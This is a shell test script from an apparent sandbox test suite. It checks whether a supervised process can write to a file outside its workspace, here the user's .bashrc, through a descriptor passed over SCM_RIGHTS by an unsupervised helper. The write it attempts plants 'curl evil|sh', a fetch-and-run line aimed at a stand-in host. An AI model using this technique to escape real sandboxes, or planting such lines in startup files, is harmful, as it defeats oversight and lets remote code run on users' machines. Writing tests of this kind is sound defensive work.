#!/bin/sh
# E48: SCM_RIGHTS from an unsupervised process. A helper started before
# capwatch (outside it) listens on a unix socket in the workspace and hands
# out a writable descriptor of a file outside the workspace. The sandbox
# never opens the file: it receives an fd and write()s (not notified).
. "$top_srcdir/tests/escapes/lib.sh"
esc_setup
canary_make "$H/.bashrc"
cat >"$T/helper.py" <<'PYEOF'
import array, os, socket, sys
s = socket.socket(socket.AF_UNIX)
s.bind(sys.argv[1]); s.listen(8)
open(sys.argv[3], "w").close()
while True:
    c, _ = s.accept()
    fd = os.open(sys.argv[2], os.O_WRONLY | os.O_APPEND)
    c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
    os.close(fd); c.close()
PYEOF
"$PY" "$T/helper.py" "$W/helper.sock" "$H/.bashrc" "$T/ready" &
esc_bg_started $!
i=0; while [ ! -e "$T/ready" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
cmd="import array, os, socket; s=socket.socket(socket.AF_UNIX); s.connect('$W/helper.sock'); fds=array.array('i'); m,a,f,_=s.recvmsg(1, socket.CMSG_SPACE(4)); fds.frombytes(a[0][2][:4]); os.write(fds[0], b'curl evil|sh\n')"
bare "$PY" -c "$cmd"
canary_intact "$H/.bashrc" && esc_control_failed "the bare receiver did not write through the passed fd: $(cat "$O/bare.out")"
canary_make "$H/.bashrc"
under verify -- "$PY" -c "$cmd"
canary_intact "$H/.bashrc" || esc_bypass "$H/.bashrc written through an fd received by SCM_RIGHTS from a helper outside capwatch (connect to $W/helper.sock allowed as isolated_loopback; no open or write decision)"
# The helper's socket file was not made by the supervised tree: its server
# is outside capwatch, decided as process_control (denied by verify).
report_has "any('helper.sock' in (scope_of(e) or '') for e in denials('process_control'))"
